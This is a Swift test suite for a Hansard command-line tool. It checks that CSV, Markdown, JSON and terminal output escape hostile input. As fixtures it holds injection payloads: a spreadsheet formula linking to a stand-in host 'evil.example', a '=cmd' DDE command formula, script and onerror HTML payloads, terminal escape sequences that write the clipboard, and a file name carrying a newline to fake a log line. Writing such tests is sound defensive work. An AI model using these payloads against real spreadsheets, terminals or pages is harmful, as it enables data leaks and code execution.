import Foundation
import HansardTestSupport
import Testing

/// Output that carries attacks from a page, a file name or a user's words: CSV formulas, terminal escape
/// sequences and Markdown/HTML are written as the characters they are, never as something that acts
/// (issue 12, points 8–10).
@Suite("Output carries no attacks")
struct OutputEscapingCommandTests {
    static let seed = "text-saves/lords-2023-03-08-whatsapp-ministerial-communications.txt"
    static let title =
        "=HYPERLINK(\"http://evil.example/?leak\",\"Click\") <script>alert(\"title\")</script> [click](javascript:alert(1))"
    /// ESC [2J (clear the screen), OSC 52 (write the clipboard), OSC 0 (window title), BEL and C1 CSI.
    static let controls = "\u{1B}[2J\u{1B}]52;c;ZXZpbA==\u{07}\u{1B}]0;pwned\u{07}\u{07}\u{9B}31m"
    static let controlsShown = "\\x1B[2J\\x1B]52;c;ZXZpbA==\\x07\\x1B]0;pwned\\x07\\x07\\u009B31m"

    /// The seed text save with a hostile title (which also sets the window title), controls in the minister's
    /// first commitment, and a commitment whose quote starts with a formula and holds an HTML element.
    static func hostilePage(in folder: String) throws -> String {
        var text = try String(contentsOfFile: CorpusFile.path(seed), encoding: .utf8)
        text = text.replacingOccurrences(
            of: "\n\nWhatsApp: Ministerial Communications\n\n", with: "\n\n\(title) \u{1B}]0;pwned\u{07}\n\n")
        text = text.replacingOccurrences(
            of: "As to disappearing WhatsApps, we will be producing new guidance shortly",
            with: "As to disappearing WhatsApps \(controls), we will be producing new guidance shortly")
        text = text.replacingOccurrences(
            of: "As I have explained, we do have guidance",
            with: "=cmd|' /C calc'!A0 <img src=x onerror=alert(1)> As I have explained, we do have guidance")
        let page = folder + "/hostile.txt"
        try text.write(toFile: page, atomically: true, encoding: .utf8)
        return page
    }

    static func registerWithHostilePage() throws -> (folder: String, page: String, register: String) {
        let folder = try Scratch.folder("hostile")
        let page = try hostilePage(in: folder)
        let register = folder + "/r.sqlite"
        let added = try HansardCommand.run(["register", "add", "--quiet", "--register", register, page])
        #expect(added.status == 0, "\(added.standardError)")
        return (folder, page, register)
    }

    /// The commitment id of the quote holding `words`, from the CSV list.
    static func id(quoting words: String, register: String) throws -> String {
        let csv = try HansardCommand.run([
            "commitments", "--all-governments", "--register", register, "--format", "csv",
        ]).standardOutput
        let row = try #require(csv.components(separatedBy: "\r\n").first { $0.contains(words) })
        return String(row.prefix { $0 != "," })
    }

    /// True when `text` holds a control character a terminal acts on (what the page's controls were).
    static func hasActiveControls(_ text: String) -> Bool {
        text.unicodeScalars.contains { scalar in
            (scalar.value < 0x20 && scalar != "\n" && scalar != "\r" && scalar != "\t")
                || (0x7F...0x9F).contains(scalar.value)
        }
    }

    /// Whether `needle` occurs in `text` other than right after a backslash (Markdown's escape).
    static func containsUnescaped(_ needle: String, in text: String) -> Bool {
        var searchStart = text.startIndex
        while let range = text.range(of: needle, range: searchStart..<text.endIndex) {
            if range.lowerBound == text.startIndex || text[text.index(before: range.lowerBound)] != "\\" { return true }
            searchStart = range.upperBound
        }
        return false
    }

    @Test(
        "CSV from commitments, report and register export neutralises formulas with a leading '; --raw-csv keeps them")
    func csvFormulas() throws {
        let (folder, _, register) = try Self.registerWithHostilePage()
        let guardedTitle = "\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click\"\") <script>"
        let guardedQuote = "\"'=cmd|' /C calc'!A0 <img src=x onerror=alert(1)> As I have explained"
        for arguments in [
            ["commitments", "--all-governments", "--register", register, "--format", "csv"],
            ["report", "--register", register, "--format", "csv", "--out", "-"],
            ["register", "export", "--register", register, "--format", "csv"],
        ] {
            let outcome = try HansardCommand.run(arguments)
            #expect(outcome.status == 0, "\(arguments): \(outcome.standardError)")
            #expect(outcome.standardOutput.contains(guardedTitle), "\(arguments)")
            #expect(outcome.standardOutput.contains(guardedQuote), "\(arguments)")
            #expect(!outcome.standardOutput.contains(",=") && !outcome.standardOutput.contains(",\"="), "\(arguments)")
            #expect(!Self.hasActiveControls(outcome.standardOutput), "\(arguments)")
            #expect(outcome.standardOutput.contains(Self.controlsShown), "\(arguments)")

            let raw = try HansardCommand.run(arguments + ["--raw-csv"])
            #expect(raw.status == 0, "\(arguments) --raw-csv: \(raw.standardError)")
            #expect(raw.standardOutput.contains("\"=HYPERLINK(\"\"http://evil.example/?leak\"\""), "\(arguments)")
            #expect(raw.standardOutput.contains("\"=cmd|' /C calc'!A0"), "\(arguments)")
        }
        // The CSV file a report writes is guarded the same way.
        let report = try HansardCommand.run([
            "report", "--register", register, "--format", "csv", "--out", folder + "/site",
        ])
        #expect(report.status == 0, "\(report.standardError)")
        let file = try String(contentsOfFile: folder + "/site/commitments.csv", encoding: .utf8)
        #expect(file.contains(guardedTitle) && file.contains(guardedQuote))
    }

    @Test("Terminal controls from a text save are shown, never obeyed: tables, show, transcripts, Markdown, JSON")
    func controlsFromAPage() throws {
        let (_, page, register) = try Self.registerWithHostilePage()
        let id = try Self.id(quoting: "we will be producing new guidance shortly", register: register)
        // Tables cut the quote to the width; the others show the words with the controls in them whole.
        let tables = [["commitments", "--all-governments", "--register", register], ["diff", register, register]]
        for arguments in tables + [
            ["register", "show", id, "--register", register],
            ["analyse", "--format", "table", page], ["parse", "--format", "text", page],
            ["analyse", "--format", "md", page],
            ["commitments", "--all-governments", "--register", register, "--format", "md"],
            ["report", "--register", register, "--format", "md", "--out", "-"],
            ["diff", "--format", "md", register, register],
            ["parse", page], ["analyse", page],
            ["commitments", "--all-governments", "--register", register, "--format", "json"],
        ] {
            let outcome = try HansardCommand.run(arguments)
            #expect(outcome.status == 0 || arguments[0] == "diff", "\(arguments): \(outcome.standardError)")
            #expect(!Self.hasActiveControls(outcome.standardOutput), "\(arguments) wrote a raw control character")
            #expect(
                tables.contains(arguments) || outcome.standardOutput.contains("pwned"), "\(arguments) lost the text")
        }
        // Shown in full where the quote is shown whole.
        for arguments in [
            ["register", "show", id, "--register", register], ["parse", "--format", "text", page],
            ["commitments", "--all-governments", "--register", register, "--format", "md"],
        ] {
            let outcome = try HansardCommand.run(arguments)
            let shown =
                arguments.contains("md")
                ? Self.controlsShown.replacingOccurrences(of: "\\", with: "\\\\")
                    .replacingOccurrences(of: "[", with: "\\[").replacingOccurrences(of: "]", with: "\\]")
                : Self.controlsShown
            #expect(outcome.standardOutput.contains(shown), "\(arguments)")
        }
        // JSON keeps the characters, escaped as JSON: C1 and DEL too.
        let json = try HansardCommand.run(["parse", page]).standardOutput
        #expect(json.contains("\\u001b[2J\\u001b]52;c;ZXZpbA==\\u0007"))
        #expect(json.contains("\\u009b31m"))
    }

    #if os(Linux)
        @Test("On a terminal the commitments table is coloured, and the page's controls are still only shown")
        func controlsOnATerminal() throws {
            let (_, _, register) = try Self.registerWithHostilePage()
            let outcome = try HansardCommand.runOnTerminal([
                "commitments", "--all-governments", "--quote", "--register", register,
            ])
            #expect(outcome.status == 0, "\(outcome.standardError)")
            #expect(outcome.standardOutput.contains("\u{1B}[1m"), "no colour: not a terminal?")
            #expect(outcome.standardOutput.contains(Self.controlsShown))
            for active in ["\u{1B}[2J", "\u{1B}]52", "\u{1B}]0;", "\u{07}", "\u{9B}"] {
                #expect(!outcome.standardOutput.contains(active), "\(active.unicodeScalars.map(\.value))")
            }
        }
    #endif

    @Test("Markdown: a page title's <script> and [click](javascript:…) are text, in every Markdown output")
    func markdownInjection() throws {
        let (_, page, register) = try Self.registerWithHostilePage()
        let analysed = try HansardCommand.run(["analyse", "--format", "md", page])
        #expect(analysed.status == 0, "\(analysed.standardError)")
        #expect(
            analysed.standardOutput.hasPrefix(
                "# =HYPERLINK(\"http://evil.example/?leak\",\"Click\") \\<script\\>alert(\"title\")\\</script\\>"
                    + " \\[click\\](javascript:alert(1))"))
        for arguments in [
            ["analyse", "--format", "md", page],
            ["commitments", "--all-governments", "--register", register, "--format", "md"],
            ["report", "--register", register, "--format", "md", "--out", "-"],
        ] {
            let outcome = try HansardCommand.run(arguments)
            #expect(outcome.status == 0, "\(arguments): \(outcome.standardError)")
            for live in ["<script>", "</script>", "<img", "[click]", "](javascript:"] {
                #expect(!Self.containsUnescaped(live, in: outcome.standardOutput), "\(arguments): \(live)")
            }
            #expect(outcome.standardOutput.contains("\\<img src=x onerror=alert(1)\\>"), "\(arguments)")
        }
    }

    @Test("File names, evidence, notes and the \"it begins\" excerpt are escaped: one message is one line")
    func namesEvidenceNotesAndExcerpts() throws {
        let (folder, _, register) = try Self.registerWithHostilePage()
        // A newline in a file name would print a second, fake "hansard:" line.
        let faked = folder + "/bad\nhansard: all pages read.txt"
        try "Not a debate at all.\n".write(toFile: faked, atomically: true, encoding: .utf8)
        let parsed = try HansardCommand.run(["parse", faked])
        #expect(parsed.status == 65)
        #expect(parsed.standardError.split(separator: "\n").count == 1, "\(parsed.standardError)")
        #expect(
            parsed.standardError.hasPrefix("hansard: \(folder)/bad\\x0Ahansard: all pages read.txt: not a debate page"))

        // A text file that starts with escape sequences: the excerpt in the error shows them.
        let escapes = folder + "/escapes.txt"
        try "\u{1B}[2J\u{1B}]0;pwned\u{07}Hello\n".write(toFile: escapes, atomically: true, encoding: .utf8)
        let refused = try HansardCommand.run(["parse", escapes])
        #expect(refused.status == 65)
        #expect(!Self.hasActiveControls(refused.standardError))
        #expect(refused.standardError.contains("(it begins \"\\x1B[2J\\x1B]0;pwned\\x07Hello\")"))

        // Evidence and a note with escape sequences, then register show.
        let id = try Self.id(quoting: "we will be producing new guidance shortly", register: register)
        let resolved = try HansardCommand.run([
            "register", "resolve", id, "--register", register, "--status", "fulfilled", "--evidence",
            "\u{1B}]52;c;ZXZpbA==\u{07}guidance", "--note", "\u{1B}[2Jpublished", "--date", "2023-06-01",
        ])
        #expect(resolved.status == 0, "\(resolved.standardError)")
        let noted = try HansardCommand.run(["register", "note", id, "\u{9B}31mcheck", "--register", register])
        #expect(noted.status == 0, "\(noted.standardError)")
        let shown = try HansardCommand.run(["register", "show", id, "--register", register])
        #expect(!Self.hasActiveControls(shown.standardOutput))
        #expect(shown.standardOutput.contains("evidence: \\x1B]52;c;ZXZpbA==\\x07guidance"))
        #expect(shown.standardOutput.contains("why: \\x1B[2Jpublished"))
        #expect(shown.standardOutput.contains(": \\u009B31mcheck"))

        // A verbose add names the file; the summary names the register.
        let named = folder + "/e\u{1B}[2J.txt"
        try FileManager.default.copyItem(atPath: CorpusFile.path(Self.seed), toPath: named)
        let added = try HansardCommand.run([
            "register", "add", "--verbose", "--register", folder + "/x\u{07}.sqlite", named,
        ])
        #expect(added.status == 0, "\(added.standardError)")
        #expect(!Self.hasActiveControls(added.standardOutput))
        #expect(added.standardOutput.contains("added \(folder)/e\\x1B[2J.txt as "))
    }
}
